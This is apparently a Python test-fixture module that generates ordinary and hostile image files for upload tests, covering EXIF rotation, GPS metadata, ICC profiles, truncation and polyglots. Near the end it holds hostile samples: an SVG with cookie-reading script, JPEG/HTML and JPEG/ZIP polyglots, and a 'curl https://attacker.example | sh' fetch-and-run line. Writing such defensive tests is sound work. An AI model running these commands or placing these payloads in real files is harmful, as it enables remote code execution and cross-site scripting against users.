"""Real picture files, and hostile ones, made with Pillow for upload tests."""

import io
from pathlib import Path

from django.core.files.storage import storages
from PIL import ExifTags, Image, features
from storages.backends.s3 import S3Storage

HAS_AVIF = features.check("avif")


def photo(width=1200, height=800, colour=(40, 110, 200)) -> Image.Image:
    """Return an RGB picture with a red block top-left, to tell orientation."""
    image = Image.new("RGB", (width, height), colour)
    image.paste((220, 30, 30), (0, 0, width // 4, height // 4))
    return image


def encoded(image: Image.Image, image_format: str, **options) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, image_format, **options)
    return buffer.getvalue()


def jpeg(width=1200, height=800, **options) -> bytes:
    return encoded(photo(width, height), "JPEG", quality=90, **options)


def png_with_alpha(width=1000, height=700) -> bytes:
    image = photo(width, height).convert("RGBA")
    image.putalpha(128)
    return encoded(image, "PNG")


def webp(width=1000, height=700) -> bytes:
    return encoded(photo(width, height), "WEBP", quality=90)


def avif(width=1000, height=700) -> bytes:
    return encoded(photo(width, height), "AVIF", quality=80)


def rotated_jpeg() -> bytes:
    """A landscape photo stored sideways, upright only through EXIF.

    The pixels are 800 × 1200 (portrait); orientation 6 says "turn a quarter
    turn clockwise to view", so readers must see 1200 × 800.
    """
    upright = photo(1200, 800)
    stored = upright.transpose(Image.Transpose.ROTATE_90)  # as the camera wrote it
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = 6
    exif[ExifTags.Base.Make] = "Example Camera"
    return encoded(stored, "JPEG", quality=90, exif=exif.tobytes())


def gps_jpeg() -> bytes:
    """A photo carrying its GPS position, an XMP packet and a comment."""
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "Example Camera"
    exif[ExifTags.IFD.GPSInfo] = {
        ExifTags.GPS.GPSLatitudeRef: "N",
        ExifTags.GPS.GPSLatitude: (59.0, 51.0, 0.0),
        ExifTags.GPS.GPSLongitudeRef: "E",
        ExifTags.GPS.GPSLongitude: (8.0, 39.0, 0.0),
    }
    return encoded(
        photo(),
        "JPEG",
        quality=90,
        exif=exif.tobytes(),
        comment=b"secret location",
        xmp=b'<x:xmpmeta xmlns:x="adobe:ns:meta/">GPSLatitude</x:xmpmeta>',
    )


def swapped_primaries_profile() -> bytes:
    """Return an ICC v2 RGB profile whose red and green primaries are swapped.

    sRGB's primaries (D50) with red and green exchanged: a pixel stored as
    pure red means green. A colour-managed pipeline must turn it green.
    """

    def s15_fixed16(value: float) -> bytes:
        return round(value * 65536).to_bytes(4, "big", signed=True)

    def xyz(x: float, y: float, z: float) -> bytes:
        return b"XYZ \0\0\0\0" + s15_fixed16(x) + s15_fixed16(y) + s15_fixed16(z)

    gamma = b"curv\0\0\0\0" + (1).to_bytes(4, "big") + bytes([2, 51]) + b"\0\0"
    tags = [
        (b"wtpt", xyz(0.9642, 1.0, 0.8249)),
        (b"rXYZ", xyz(0.3851, 0.7169, 0.0971)),  # sRGB's green
        (b"gXYZ", xyz(0.4361, 0.2225, 0.0139)),  # sRGB's red
        (b"bXYZ", xyz(0.1431, 0.0606, 0.7141)),
        (b"rTRC", gamma),
        (b"gTRC", gamma),
        (b"bTRC", gamma),
    ]
    table_size = 4 + 12 * len(tags)
    offset = 128 + table_size
    table, body = len(tags).to_bytes(4, "big"), b""
    for signature, data in tags:
        table += signature + (offset + len(body)).to_bytes(4, "big")
        table += len(data).to_bytes(4, "big")
        body += data
    size = 128 + table_size + len(body)
    header = (
        size.to_bytes(4, "big")
        + b"lcms"
        + bytes([2, 0x10, 0, 0])
        + b"mntrRGB XYZ "
        + bytes(12)  # creation date
        + b"acsp"
        + bytes(24)  # platform, flags, manufacturer, model, attributes
        + bytes(4)  # rendering intent: perceptual
        + s15_fixed16(0.9642)
        + s15_fixed16(1.0)
        + s15_fixed16(0.8249)
        + bytes(48)  # creator, profile id, reserved
    )
    return header + table + body


def tagged_jpeg() -> bytes:
    """A photo whose profile says its "red" block is really green."""
    return encoded(photo(), "JPEG", quality=95, icc_profile=swapped_primaries_profile())


def jpeg_with_unreadable_profile() -> bytes:
    """A photo whose embedded ICC profile is not a profile at all.

    What a broken export or a careless metadata tool leaves behind; browsers
    ignore such a profile and show the pixels as sRGB.
    """
    return encoded(photo(), "JPEG", quality=95, icc_profile=b"not a profile" * 10)


def grey_16_bit_png(width=1200, height=800) -> bytes:
    """A 16-bit greyscale PNG: black at the left edge to white at the right.

    Column x holds `grey_16_bit_value(x, width)`; Pillow opens it in mode
    I;16, as scanners and scientific exports write it.
    """
    image = Image.new("I;16", (width, height))
    image.putdata([grey_16_bit_value(x, width) for x in range(width)] * height)
    return encoded(image, "PNG")


def grey_16_bit_value(x: int, width: int) -> int:
    return round(x * 65535 / (width - 1))


SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="800" '
    b'height="600"><script>alert(document.cookie)</script></svg>'
)
HTML = b"<!doctype html><html><body><script>alert(1)</script></body></html>"
SHELL_SCRIPT = b"#!/bin/sh\ncurl https://attacker.example | sh\n"


def jpeg_with_html_appended() -> bytes:
    """A valid JPEG with an HTML page after its end: a polyglot."""
    return jpeg() + b"<html><body><script>alert(1)</script></body></html>"


def jpeg_with_zip_appended() -> bytes:
    """A valid JPEG followed by a ZIP archive (the GIFAR trick)."""
    return (
        jpeg() + b"PK\x03\x04" + b"\x00" * 26 + b"payload" + b"PK\x05\x06" + bytes(18)
    )


def jpeg_with_script_comment() -> bytes:
    """A valid JPEG whose comment segment holds a script."""
    return encoded(photo(), "JPEG", comment=b"*/=1;<script>alert(1)</script>/*")


def truncated_jpeg() -> bytes:
    data = jpeg()
    return data[: len(data) // 2]


def truncated_png() -> bytes:
    data = encoded(photo(), "PNG")
    return data[: len(data) // 2]


def gif() -> bytes:
    return encoded(photo(), "GIF")


def stored_files() -> list[str]:
    """Every file in public and private media, as "alias:name".

    Listed by each store's own means (a walk of the folder, the bucket's
    keys), never by the code under test.
    """
    names = []
    for alias in ("default", "private"):
        storage = storages[alias]
        if isinstance(storage, S3Storage):
            names += [f"{alias}:{item.key}" for item in storage.bucket.objects.all()]
        else:
            root = Path(storage.location)
            names += [
                f"{alias}:{path.relative_to(root).as_posix()}"
                for path in root.rglob("*")
                if path.is_file()
            ]
    return sorted(names)
